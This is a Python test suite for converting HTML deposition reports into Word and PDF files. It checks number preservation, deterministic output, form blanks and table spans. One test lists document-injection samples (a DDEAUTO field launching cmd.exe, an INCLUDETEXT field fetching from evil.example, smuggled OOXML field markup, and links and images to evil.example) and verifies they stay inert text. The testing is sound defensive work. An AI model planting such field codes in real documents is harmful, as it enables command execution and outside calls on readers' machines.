"""The report to go on writing: every word and number of the page, blanks to fill, the same bytes for the same page."""

from __future__ import annotations

import html
import io
import re
import zipfile
from collections import Counter
from datetime import UTC, datetime

import pytest
from docx import Document
from lxml import html as parser
from pypdf import PdfReader

from depose.model import Findings
from depose.report.editable import docx
from depose.report.render import render_form, render_html
from reports import build, calibrated

DATED = datetime(2026, 11, 28, tzinfo=UTC)
NUMBER = re.compile(r"\d+(?:[.,:]\d+)*")


def words_of(data: bytes) -> str:
    """Every word of a .docx, those of cells once."""
    found = Document(io.BytesIO(data))
    parts = [paragraph.text for paragraph in found.paragraphs]
    for table in found.tables:
        for row in table.rows:
            parts += [cell.text for cell in dict.fromkeys(row.cells)]
    return "\n".join(parts)


@pytest.mark.parametrize("findings", [build(), calibrated()], ids=["plain", "calibrated"])
def test_every_number_of_the_page_is_in_the_docx(findings: Findings) -> None:
    """Text, tables, captions, figures and exhibits: no number is lost, each is there at least as often."""
    page = render_html(findings)
    body = parser.document_fromstring(page.decode()).find("body")
    for node in body.iter("style", "script"):
        node.clear(keep_tail=True)
    there = Counter(number for text in body.itertext() for number in NUMBER.findall(text))
    made = Counter(NUMBER.findall(words_of(docx(page, DATED))))
    assert len(there) > 100
    assert {number: (n, made[number]) for number, n in there.items() if made[number] < n} == {}


@pytest.mark.slow
def test_the_same_page_gives_the_same_bytes_and_blanks_stay_blanks() -> None:
    """Nobody can tell two machines apart by it; what the witness is to fill is a line to write on."""
    page = render_html(build())
    first = docx(page, DATED)
    assert docx(page, DATED) == first
    assert "____" in words_of(first)
    created = Document(io.BytesIO(first)).core_properties.created
    assert created is not None
    assert created.replace(tzinfo=None) == DATED.replace(tzinfo=None)


HOSTILE = (
    'DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"',
    '{ INCLUDETEXT "//evil.example/x" }',
    "</w:t></w:r><w:fldSimple w:instr='DDEAUTO'/><w:r><w:t>",
    '<a href="https://evil.example">click</a><img src="//evil.example/x.png"><object data="x"></object>',
    '<span class="blank">I admit it</span><input name="x">',
)


def test_no_answer_becomes_a_field_a_link_or_a_picture() -> None:
    """Whatever words a model says stand there as words: no field code, no relation to anything outside the file."""
    said = "".join(f"<p>{html.escape(one)}</p><table><tr><td>{html.escape(one)}</td></tr></table>" for one in HOSTILE)
    raw = "".join(f"<p>{one}</p>" for one in HOSTILE)  # what would be if the page itself had let it through
    for page in (said, raw):
        data = docx(f"<html><body>{page}</body></html>".encode(), DATED)
        with zipfile.ZipFile(io.BytesIO(data)) as file:
            parts = {name: file.read(name) for name in file.namelist()}
        body = parts["word/document.xml"]
        for mark in (
            b"<w:instrText",
            b"<w:fldSimple",
            b"<w:fldChar",
            b"<w:hyperlink",
            b"<w:object",
            b"<w:drawing",
            b"<w:sdt",
        ):
            assert mark not in body, mark
        assert not [name for name, part in parts.items() if b'TargetMode="External"' in part]
    assert all(" ".join(one.split()) in words_of(docx(f"<body>{said}</body>".encode(), DATED)) for one in HOSTILE)


@pytest.mark.slow
def test_every_blank_of_the_page_is_a_field_of_the_form() -> None:
    """On a screen the witness fills what a pen would, each field of its own name, and no blank is lost."""
    page = render_html(build())
    fields = PdfReader(io.BytesIO(render_form(build(), page))).get_fields()
    assert fields is not None
    blanks = page.count(b'<span class="blank')
    assert blanks > 20
    assert sorted(fields) == [f"blank-{number:03}" for number in range(1, blanks + 1)]


def test_cells_that_span_stand_where_they_belong() -> None:
    """A cell over two columns, one over two rows, and a table within nothing."""
    page = (
        "<html><body><h2>1 Head</h2><table><caption>Table 1.</caption><tr><th colspan='2'>a</th><th>b</th></tr>"
        "<tr><td rowspan='2'>c</td><td>d</td><td>e</td></tr><tr><td>f</td><td>g</td></tr></table>tail 7"
        "<div>8 <p>9</p> 10</div></body></html>"
    )
    made = Document(io.BytesIO(docx(page.encode(), DATED)))
    rows = [[cell.text for cell in row.cells] for row in made.tables[0].rows]
    assert rows[0][:3] == ["a", "a", "b"]
    assert (rows[1][:3], rows[2][1:3]) == (["c", "d", "e"], ["f", "g"])
    said = [paragraph.text for paragraph in made.paragraphs]
    assert [text for text in said if text] == ["1 Head", "Table 1.", "tail 7", "8", "9", "10"]
